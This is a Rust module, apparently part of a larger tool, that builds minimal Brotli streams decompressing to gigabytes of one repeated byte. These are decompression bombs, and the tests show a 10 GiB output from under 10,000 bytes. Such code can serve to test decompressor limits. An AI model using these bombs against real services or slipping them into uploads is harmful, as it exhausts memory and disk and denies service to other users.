//! Just enough of Brotli to write a bomb (RFC 7932).

use super::bits::Bits;

/// The longest block, in bytes.
const BLOCK: u32 = 16 << 20;
/// What its copy has before it: so far back is copied from, without its being said.
const LITERALS: u32 = 4;
/// The command that begins with four literals and ends with a copy of the longest kind.
const COMMAND: u32 = 423;
/// The shortest copy of that kind.
const SHORTEST: u32 = 2118;

/// A file that decompresses to at least `length` times `byte`: in each block four literals and one copy of them over
/// itself, by codes that have a single symbol and so no bits. More than a million times smaller than what comes out.
pub(super) fn repeated(byte: u8, length: u64) -> Vec<u8> {
    let mut bits = Bits::after(Vec::new());
    bits.number(15, 4); // a window of 16 MiB, which is the largest
    for _ in 0..length.div_ceil(u64::from(BLOCK)) {
        bits.number(0, 1); // not the last block
        bits.number(2, 2); // six digits of its length follow
        bits.number(BLOCK - 1, 24);
        bits.number(0, 1); // compressed
        bits.number(0, 3); // one type each of literals, commands and distances
        bits.number(0, 6); // no short distances
        bits.number(0, 2); // the context of literals
        bits.number(0, 2); // one tree each for literals and distances
        for (symbol, width) in [(u32::from(byte), 8), (COMMAND, 10), (0, 6)] {
            bits.number(1, 2); // a simple code
            bits.number(0, 2); // of one symbol
            bits.number(symbol, width);
        }
        bits.number(BLOCK - LITERALS - SHORTEST, 24); // by how much the copy is longer than the shortest
    }
    bits.number(3, 2); // the last block, which is empty
    bits.into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small() {
        assert!(repeated(b'a', 10 << 30).len() < 10_000);
        // Four bits for the window, 101 for the block, two for the end.
        assert_eq!(repeated(b'a', 1).len(), 14);
    }
}
